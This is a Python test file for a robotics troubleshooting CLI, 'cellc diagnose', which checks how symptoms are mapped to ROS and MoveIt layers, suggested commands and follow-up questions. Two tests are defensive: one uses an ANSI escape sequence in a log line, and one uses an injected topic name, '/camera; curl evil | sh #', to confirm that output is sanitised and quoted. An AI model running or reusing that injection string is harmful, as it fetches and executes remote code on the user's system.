"""``cellc diagnose`` as a user meets it."""

from __future__ import annotations

import shlex
from pathlib import Path

from tests.cli.run import PICK, run


def test_diagnosis_tells_layer_command_shortcut_and_owner() -> None:
    ran = run("diagnose", "nodes cannot see each other", PICK)
    assert ran.code == 0
    assert ran.out.startswith("network and discovery: nodes cannot see each other\n")
    assert "$ printenv ROS_DOMAIN_ID" in ran.out
    assert "do not: disable the firewall as a whole" in ran.out
    assert "who decides: network" in ran.out


def test_diagnosis_without_a_cell_has_placeholders() -> None:
    assert "ros2 topic hz <topic>" in run("diagnose", "topic exists, no data").out


def test_unknown_symptom_is_told_with_the_layers_and_exit_code_1() -> None:
    ran = run("diagnose", "the coffee is cold", PICK)
    assert ran.code == 1
    assert ran.out.startswith("UNKNOWN")
    assert "safety state" in ran.out


def test_unknown_symptom_gets_the_nearest_with_the_word_that_none_fits() -> None:
    ran = run("diagnose", "the gripper smells of octopus")
    assert ran.code == 1
    assert ran.out.startswith("UNKNOWN: no known symptom fits; the nearest are:\n")
    assert "  tool and load: the gripper" in ran.out
    assert "most likely: " in ran.out


def test_without_a_symptom_all_are_listed_under_their_layers() -> None:
    ran = run("diagnose")
    assert ran.code == 0
    assert ran.out.startswith("network and discovery\n  nodes cannot see each other\n")
    assert "\nplanning with MoveIt\n  the start state is in collision\n" in ran.out


def test_listed_name_finds_its_own_symptom() -> None:
    ran = run("diagnose", "The control loop overruns")
    assert ran.code == 0
    assert ran.out.startswith("control loop and real time: the control loop overruns\n")


def test_cell_that_cannot_be_read_is_reported(tmp_path: Path) -> None:
    ran = run("diagnose", "slow", (tmp_path / "none.yaml").as_posix())
    assert ran.code == 1
    assert "file-not-found" in ran.out


def test_hostile_log_line_cannot_steer_the_terminal() -> None:
    line = "Could not initialize the controller named 'a\x1b[2Jb'"
    assert "\x1b" not in run("diagnose", line, PICK).out


def test_command_to_copy_holds_a_hostile_name_as_one_word(tmp_path: Path) -> None:
    text = Path(PICK).read_text(encoding="utf-8")
    topic = next(
        line.strip() for line in text.splitlines() if line.strip().startswith("/") and line.strip().endswith(":")
    )
    hostile = "/camera; curl evil | sh #"
    (tmp_path / "cell.yaml").write_text(text.replace(topic, f'"{hostile}":'), encoding="utf-8")
    out = run("diagnose", f"topic {hostile} exists and no data", (tmp_path / "cell.yaml").as_posix()).out
    commands = [line.strip() for line in out.splitlines() if line.strip().startswith("$ ") and "curl" in line]
    assert commands
    assert all(hostile in shlex.split(command) for command in commands)


def test_sentence_without_quotes_is_read_as_users_write() -> None:
    ran = run("diagnose", *["robot", "drops", "when", "brakes", "release"])
    assert ran.code == 0
    assert ran.out.startswith("likely, not sure: tool and load\none question decides: ")
    assert "\ntool and load: the arm sags or drops as brakes open or a controller takes over\n" in ran.out
    assert "the device counts with less load than hangs on it" in ran.out


def test_two_layers_that_fit_are_told_with_the_question_that_decides() -> None:
    ran = run("diagnose", *["protective", "stop", "after", "the", "gripper", "picks", "the", "part"])
    assert ran.code == 0
    first, question, yes, no, blank, *_ = ran.out.splitlines()
    assert first.startswith("not sure: tool and load, or ")
    assert question.startswith(
        "one question decides: Does it change when the gripper, the tool or the part is taken off"
    )
    assert yes.startswith("  yes: tool and load: protective stops come again and again")
    assert no.startswith("  no: safety state: ")
    assert not blank


def test_layer_that_is_far_ahead_and_not_certain_is_told_as_likely() -> None:
    out = run("diagnose", *["octomap", "is", "not", "refreshed", "after", "the", "obstacle", "is", "removed"]).out
    named, *lines = out.splitlines()
    assert named.startswith("named: ")
    assert lines[0] == "likely, not sure: planning with MoveIt"
    assert lines[1].startswith("one question decides: ")


def test_unknown_symptom_gets_the_question_that_narrows_most() -> None:
    *_, question, yes, no, _ = run("diagnose", "the coffee is cold").out.splitlines()
    assert question.startswith("ask first: Is it the same with ROS stopped")
    assert yes == "  yes: camera and perception, then vendor mode, then tool and load, then safety state"
    assert no.startswith("  no: network and discovery, then QoS and type, then ")


def test_words_that_look_like_options_belong_to_the_sentence() -> None:
    assert run("diagnose", "joint", "is", "off", "by", "-90", "deg", "after", "homing").code == 0
    assert run("diagnose", "--lgo", "x").code == 2


def test_folder_of_a_spec_stands_for_the_spec_and_another_folder_is_no_word(tmp_path: Path) -> None:
    folder = Path(PICK).parent.as_posix()
    assert run("diagnose", "topic exists, no data", folder).out == run("diagnose", "topic exists, no data", PICK).out
    ran = run("diagnose", "arm", "sags", tmp_path.as_posix())
    assert (ran.code, "got a folder without cell.yaml" in ran.err) == (2, True)


def test_log_is_answered_as_its_lines_are_when_pasted(tmp_path: Path) -> None:
    lines = [
        "[ERROR] [1795859474.1] [arm_driver]: open /dev/ttyUSB0: Permission denied",
        "[ERROR] [1795859475.1] [arm-1]: process has died [pid 7, exit code 1, cmd 'arm']",
    ]
    (tmp_path / "a.log").write_text("\n".join(lines) + "\n", encoding="utf-8")
    pasted = run("diagnose", "\n".join(lines)).out
    assert pasted.startswith("not sure: network and discovery, or lifecycle?\none question decides: ")
    assert run("diagnose", "--log", tmp_path.as_posix()).out.endswith(f"\n\n{pasted}")
